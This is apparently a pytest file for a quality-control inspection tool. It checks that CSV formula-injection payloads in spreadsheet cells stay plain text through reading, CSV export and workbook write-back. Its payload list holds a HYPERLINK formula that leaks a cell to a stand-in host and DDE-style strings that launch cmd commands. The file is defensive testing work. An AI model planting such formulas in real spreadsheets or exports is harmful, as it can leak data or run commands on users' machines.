"""Formula-injection text in part ids, notes and inspector names stays text end to end.

Payloads follow the OWASP page "CSV Injection" (cells starting with =, +, -, @, tab or carriage
return). Read through read_inspection they come back as the exact text; the flat CSV writer
prefixes them with a single quote (OWASP's recommendation); the workbook written back holds
them as text cells, never as formulas (ECMA-376 Part 1, 18.3.1.4: a formula is an <f> element).
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from qc.io import read_inspection
from qc.io.guard import guard_file
from qc.io.writeback import write_back
from qc.io.writers import write_table
from qc.io.xlsx_package import column_index
from tests.hostile import builders as b

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "=1+1",
]
HEADER = ["Part", "Characteristic", "Nominal", "Lower limit", "Upper limit", "Reading",
          "Inspector", "Note"]


def _rows() -> list[list[object]]:
    return [[PAYLOADS[i], f"D{i + 1}", 25.0, 24.98, 25.02, 25.001,
             PAYLOADS[(i + 1) % 5], PAYLOADS[(i + 2) % 5]] for i in range(5)]


def _xlsx(path: Path) -> Path:
    import xlsxwriter

    wb = xlsxwriter.Workbook(path)
    ws = wb.add_worksheet("Readings")
    ws.write_row(0, 0, HEADER)
    for r, row in enumerate(_rows(), start=1):
        for c, v in enumerate(row):
            if isinstance(v, str):
                ws.write_string(r, c, v)  # stored as text, as a careful program would
            else:
                ws.write_number(r, c, v)
    wb.close()
    return path


def _csv(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(HEADER)
        w.writerows(_rows())
    return path


@pytest.mark.parametrize("make", [_xlsx, _csv], ids=["xlsx", "csv"])
def test_payloads_come_back_as_text(tmp_path: Path, make) -> None:
    p = make(tmp_path / f"inject{'.xlsx' if make is _xlsx else '.csv'}")
    guard_file(p)
    t = read_inspection(p)
    assert t.frame["part"].tolist() == PAYLOADS
    assert t.frame["inspector"].tolist() == PAYLOADS[1:] + PAYLOADS[:1]
    assert t.frame["note"].tolist() == PAYLOADS[2:] + PAYLOADS[:2]
    assert t.frame["source_row"].tolist() == [2, 3, 4, 5, 6]


def test_csv_output_neutralised(tmp_path: Path) -> None:
    t = read_inspection(_xlsx(tmp_path / "inject.xlsx"))
    out = tmp_path / "flat.csv"
    write_table(t.frame[["part", "inspector", "note", "reading_mean_mm"]], out)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["part", "inspector", "note", "reading_mean_mm"]
    for got, part in zip(rows[1:], PAYLOADS, strict=True):
        assert got[0] == "'" + part  # OWASP: a leading single quote makes it text
        assert got[1].startswith("'") and got[2].startswith("'")
        assert float(got[3]) == pytest.approx(25.001)  # numbers are not touched


def test_workbook_written_back_keeps_text(tmp_path: Path) -> None:
    src = _xlsx(tmp_path / "inject.xlsx")
    t = read_inspection(src)
    results = pd.DataFrame({"echo_part": t.frame["part"], "echo_note": t.frame["note"]})
    out = tmp_path / "out.xlsx"
    write_back(src, out, sheet="Readings", header_row=t.header_row, data_rows=t.data_rows,
               last_column=column_index(t.last_column), results=results)
    guard_file(out)  # what qc writes passes its own guard
    with zipfile.ZipFile(out) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    ws = openpyxl.load_workbook(out)["Readings"]
    first = column_index(t.last_column) + 2  # one empty gap column (docs/output.md)
    for i, payload in enumerate(PAYLOADS):
        cell = ws.cell(row=t.data_rows[i], column=first)
        assert cell.data_type != "f"
        assert cell.value == payload
    # the original cells are untouched text as well
    assert [ws.cell(row=r, column=1).value for r in t.data_rows] == PAYLOADS


def test_guard_passes_the_injection_workbook(tmp_path: Path) -> None:
    # text that looks like a formula is not a reason to refuse a file: it is evidence
    guard_file(b.good_xlsx(tmp_path / "g.xlsx", rows=[[PAYLOADS[0], "D1", 25.0, 24.98, 25.02,
                                                        25.0, 20.0]]))
